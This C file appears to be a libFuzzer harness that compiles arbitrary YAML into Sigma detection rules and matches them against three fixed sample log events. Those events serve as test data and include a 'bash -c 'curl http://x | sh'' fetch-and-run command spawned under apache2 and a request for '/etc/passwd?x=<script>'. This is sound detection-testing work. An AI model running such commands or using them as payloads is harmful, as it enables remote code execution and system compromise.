/*
 * fuzz_sigma.c - libFuzzer target: the Sigma compiler on arbitrary YAML.
 * Every rule compiled from the input is evaluated on a few fixed events
 * (built with vg_event_set), asked for its required literals and its fields,
 * then destroyed. Regex limits are small so that a pathological pattern
 * costs bounded time.
 */
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include "detectors/sigma.h"

#define MAX_RULES 64

typedef struct loaded {
    vg_sigma_rule *r[MAX_RULES];
    size_t n;
} loaded;

static void on_rule(void *ud, vg_sigma_rule *rule)
{
    loaded *l = ud;
    if (l->n < MAX_RULES)
        l->r[l->n++] = rule;
    else
        vg_sigma_rule_destroy(rule);
}

static void on_diag(void *ud, const vg_diag *d)
{
    (void)ud;
    (void)d;
}

static void on_literal(void *ud, const char *lit, size_t n)
{
    volatile unsigned char sink = 0;
    (void)ud;
    for (size_t i = 0; i < n; i++)
        sink ^= (unsigned char)lit[i];
    (void)sink;
}

static void on_field(void *ud, const char *field, const char *const *alts, size_t n_alts)
{
    (void)ud;
    (void)strlen(field);
    for (size_t i = 0; i < n_alts; i++)
        (void)strlen(alts[i]);
}

/* A few fixed events: an sshd failure, a web request, a process creation. */
static void build_events(vg_event *ev)
{
    static const char *raw[3] = {
        "Mar  1 10:00:00 host sshd[42]: Failed password for root from 10.0.0.1 port 22 ssh2",
        "10.0.0.1 - - [01/Mar/2024:10:00:00 +0000] \"GET /etc/passwd?x=<script> HTTP/1.1\" 404 12",
        "type=EXECVE msg=audit(1.0:1): argc=2 a0=\"bash\" a1=\"-c\"",
    };
    static const char *kv[3][8][2] = {
        {{"program", "sshd"},
         {"message", "Failed password for root from 10.0.0.1 port 22 ssh2"},
         {"user", "root"},
         {"src_ip", "10.0.0.1"},
         {"pid", "42"}},
        {{"cs-method", "GET"},
         {"cs-uri-query", "/etc/passwd?x=<script>"},
         {"sc-status", "404"},
         {"c-ip", "10.0.0.1"},
         {"cs-user-agent", ""}},
        {{"Image", "/usr/bin/bash"},
         {"CommandLine", "bash -c 'curl http://x | sh'"},
         {"ParentImage", "/usr/sbin/apache2"},
         {"User", "www-data"},
         {"type", "EXECVE"},
         {"a0", "bash"},
         {"a1", "-c"}},
    };
    for (int e = 0; e < 3; e++) {
        vg_event_clear(&ev[e]);
        ev[e].raw = (vg_str){raw[e], strlen(raw[e])};
        ev[e].message = ev[e].raw;
        for (int k = 0; k < 8 && kv[e][k][0]; k++)
            vg_event_set(&ev[e], (vg_str){kv[e][k][0], strlen(kv[e][k][0])},
                         (vg_str){kv[e][k][1], strlen(kv[e][k][1])});
    }
}

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
    static vg_event ev[3];
    loaded l = {.n = 0};
    vg_sigma_opts opts = {.regex_match_limit = 100000, .regex_depth_limit = 1000};
    vg_sigma_load_buffer((const char *)data, size, "fuzz.yml", &opts, on_rule, on_diag, &l);

    vg_sigma_scratch *s = l.n ? vg_sigma_scratch_create() : NULL;
    vg_arena arena;
    vg_arena_init(&arena, 64 * 1024);
    for (size_t i = 0; i < l.n; i++) {
        build_events(ev);
        for (int e = 0; e < 3; e++) {
            vg_sigma_scratch_next_event(s);
            vg_sigma_match(l.r[i], &ev[e], s, &arena);
            vg_arena_reset(&arena);
        }
        vg_sigma_required_literals(l.r[i], 3, on_literal, NULL);
        vg_sigma_fields(l.r[i], on_field, NULL);
        size_t nt = 0;
        vg_sigma_tests(l.r[i], &nt);
    }
    for (size_t i = 0; i < l.n; i++)
        vg_sigma_rule_destroy(l.r[i]);
    if (s)
        vg_sigma_scratch_destroy(s);
    vg_arena_destroy(&arena);
    return 0;
}
